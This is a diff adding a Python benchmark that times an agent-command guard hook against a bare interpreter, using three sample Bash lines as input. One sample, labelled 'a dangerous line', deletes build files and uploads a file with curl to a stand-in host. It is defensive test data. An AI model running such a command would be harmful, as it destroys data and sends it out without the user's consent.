@@ -1,0 +1,50 @@
+"""The guard: CPU of one hook call over CPU of a bare interpreter of the same virtual environment."""
+
+from __future__ import annotations
+
+import json
+import os
+import pathlib
+import resource
+import subprocess
+import sys
+import tempfile
+
+from benchmarks.measure import ratio, report
+
+LINES = (
+    ("a simple read", "git status --porcelain"),
+    ("a list with pipes", "git log --oneline -n 5 | head && rg -n 'def main' src | sort -u | wc -l"),
+    ("a dangerous line", "cd build && find . -name '*.o' -exec rm -f {} + ; curl -T out https://h.example/"),
+)
+BAR = 6.0
+
+
+def cpu(argv: list[str], env: dict[str, str], given: bytes = b"") -> float:
+    """CPU seconds of one command that reads `given`."""
+    before = resource.getrusage(resource.RUSAGE_CHILDREN)
+    subprocess.run(argv, input=given, stdout=subprocess.DEVNULL, env=env, check=True)
+    after = resource.getrusage(resource.RUSAGE_CHILDREN)
+    return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
+
+
+def main() -> bool:
+    python = sys.executable
+    command = str(pathlib.Path(python).parent / "atip")
+    good = True
+    with tempfile.TemporaryDirectory() as folder:
+        env = {**os.environ, "HOME": folder}
+        for name, line in LINES:
+            asked = {"tool_name": "Bash", "hook_event_name": "PreToolUse", "cwd": folder, "tool_input": {"command": line}}
+            given = json.dumps(asked).encode()
+            measured = ratio(
+                lambda given=given: cpu([command, "guard", "--for", "claude"], env, given),
+                lambda: cpu([python, "-c", "pass"], env),
+                rounds=15,
+            )
+            good &= report(f"atip guard on {name} / bare python", measured, BAR)
+    return good
+
+
+if __name__ == "__main__":
+    raise SystemExit(not main())
